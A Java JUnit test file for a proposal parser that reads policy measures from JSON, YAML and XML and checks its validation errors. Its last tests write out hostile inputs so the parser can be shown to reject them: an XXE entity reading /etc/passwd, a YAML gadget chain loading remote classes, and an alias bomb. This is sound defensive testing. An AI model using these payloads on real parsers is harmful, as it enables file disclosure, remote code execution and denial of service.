package org.lexcheck.proposal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.lexcheck.TestSupport;

class ProposalParsingTest {
    private final ProposalValidator validator =
            new ProposalValidator(TestSupport.checker().current().knowledge().vocabulary());

    private Proposal parse(String text, ProposalFormat format) {
        return validator.validate(ProposalReader.readTree(text.getBytes(StandardCharsets.UTF_8), format));
    }

    private static String json(String measure) {
        return "{\"id\":\"p\",\"jurisdiction\":\"NL\",\"measures\":[" + measure + "]}";
    }

    @Test
    void jsonYamlAndXmlGiveTheSameProposal() {
        Proposal fromJson = parse(
                json("{\"id\":\"m1\",\"type\":\"FR_WAITING_PERIOD\",\"targetGroups\":[\"SUBSIDIARY_PROTECTION\"],"
                        + "\"parameters\":{\"months\":24},\"safeguards\":[\"INDIVIDUAL_ASSESSMENT\"]}"),
                ProposalFormat.JSON);
        Proposal fromYaml = parse("""
                id: p
                jurisdiction: NL
                measures:
                  - id: m1
                    type: FR_WAITING_PERIOD
                    targetGroups: [SUBSIDIARY_PROTECTION]
                    parameters: { months: 24 }
                    safeguards: [INDIVIDUAL_ASSESSMENT]
                """, ProposalFormat.YAML);
        Proposal fromXml = parse("""
                <proposal xmlns="urn:lexcheck:proposal:1" id="p" jurisdiction="NL">
                  <measure id="m1" type="FR_WAITING_PERIOD">
                    <targetGroup>SUBSIDIARY_PROTECTION</targetGroup>
                    <parameter name="months">24</parameter>
                    <safeguard>INDIVIDUAL_ASSESSMENT</safeguard>
                  </measure>
                </proposal>
                """, ProposalFormat.XML);
        assertThat(fromYaml).isEqualTo(fromJson);
        assertThat(fromXml.measures().get(0).parameters().get("months")).isEqualTo(new BigDecimal("24"));
        assertThat(fromXml.measures().get(0).targetGroups())
                .isEqualTo(fromJson.measures().get(0).targetGroups());
        assertThat(fromXml.jurisdiction()).isEqualTo("NL");
    }

    @Test
    void anUnknownTargetGroupNamesTheFieldAndTheAllowedValues() {
        assertThatThrownBy(() -> parse(
                        json("{\"id\":\"m1\",\"type\":\"FR_WAITING_PERIOD\",\"targetGroups\":[\"REFUGEES\"]}"),
                        ProposalFormat.JSON))
                .isInstanceOfSatisfying(InvalidProposalException.class, e -> {
                    assertThat(e.field()).isEqualTo("measures[0].targetGroups[0]");
                    assertThat(e.getMessage()).contains("REFUGEES");
                    assertThat(e.allowed()).contains("REFUGEE", "SUBSIDIARY_PROTECTION");
                });
    }

    @Test
    void anUnknownParameterOrAWrongTypeIsNamed() {
        assertThatThrownBy(() -> parse(
                        json(
                                "{\"id\":\"m1\",\"type\":\"FR_WAITING_PERIOD\",\"targetGroups\":[\"REFUGEE\"],\"parameters\":{\"weeks\":3}}"),
                        ProposalFormat.JSON))
                .isInstanceOfSatisfying(InvalidProposalException.class, e -> {
                    assertThat(e.field()).isEqualTo("measures[0].parameters.weeks");
                    assertThat(e.allowed()).containsExactly("months");
                });
        assertThatThrownBy(() -> parse(
                        json(
                                "{\"id\":\"m1\",\"type\":\"FR_WAITING_PERIOD\",\"targetGroups\":[\"REFUGEE\"],\"parameters\":{\"months\":\"36\"}}"),
                        ProposalFormat.JSON))
                .isInstanceOfSatisfying(
                        InvalidProposalException.class,
                        e -> assertThat(e.describe()).contains("measures[0].parameters.months: expected a number"));
    }

    @Test
    void missingIdsDuplicateIdsAndUnknownStatesAreRefused() {
        assertThatThrownBy(() -> parse(
                        json("{\"type\":\"FR_WAITING_PERIOD\",\"targetGroups\":[\"REFUGEE\"]}"), ProposalFormat.JSON))
                .hasFieldOrPropertyWithValue("field", "measures[0].id");
        String twice = "{\"id\":\"m1\",\"type\":\"FR_SUSPENSION\",\"targetGroups\":[\"REFUGEE\"]}";
        assertThatThrownBy(() -> parse(json(twice + "," + twice), ProposalFormat.JSON))
                .hasFieldOrPropertyWithValue("field", "measures[1].id");
        assertThatThrownBy(() -> parse("{\"jurisdiction\":\"XX\",\"measures\":[" + twice + "]}", ProposalFormat.JSON))
                .hasFieldOrPropertyWithValue("field", "jurisdiction");
    }

    @Test
    void anUnknownMeasureTypeIsAcceptedForNotAssessed() {
        Proposal p = parse(
                json(
                        "{\"id\":\"m1\",\"type\":\"XX_NEW_IDEA\",\"targetGroups\":[\"REFUGEE\"],\"parameters\":{\"anything\":1}}"),
                ProposalFormat.JSON);
        assertThat(p.measures().get(0).type()).isEqualTo("XX_NEW_IDEA");
    }

    @Test
    void duplicateJsonKeysAreRefusedRatherThanSilentlyDropped() {
        assertThatThrownBy(() ->
                        parse("{\"jurisdiction\":\"NL\",\"jurisdiction\":\"DK\",\"measures\":[]}", ProposalFormat.JSON))
                .isInstanceOf(InvalidProposalException.class)
                .hasMessageContaining("Duplicate");
    }

    @Test
    void xmlWithADoctypeOrExternalEntityIsRefused() {
        String xxe = """
                <?xml version="1.0"?>
                <!DOCTYPE proposal [<!ENTITY x SYSTEM "file:///etc/passwd">]>
                <proposal xmlns="urn:lexcheck:proposal:1" id="&x;" jurisdiction="NL"/>
                """;
        assertThatThrownBy(() -> parse(xxe, ProposalFormat.XML))
                .isInstanceOf(InvalidProposalException.class)
                .hasMessageContaining("not a valid XML proposal")
                .hasMessageNotContaining("root:");
    }

    @Test
    void yamlTagsDoNotInstantiateClassesAndAliasBombsAreBounded() {
        assertThatThrownBy(() -> parse(
                        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
                        ProposalFormat.YAML))
                .isInstanceOf(InvalidProposalException.class);
        StringBuilder bomb = new StringBuilder("a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n");
        for (char c = 'b'; c <= 'z'; c++) {
            char p = (char) (c - 1);
            bomb.append(c)
                    .append(": &")
                    .append(c)
                    .append(" [*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append("]\n");
        }
        assertThatThrownBy(() -> parse(bomb.toString(), ProposalFormat.YAML))
                .isInstanceOf(InvalidProposalException.class);
    }

    @Test
    void anOversizedBodyIsRefused() {
        byte[] big = new byte[ProposalReader.MAX_BYTES + 1];
        assertThatThrownBy(() -> ProposalReader.readTree(big, ProposalFormat.JSON))
                .hasMessageContaining("larger than");
    }
}
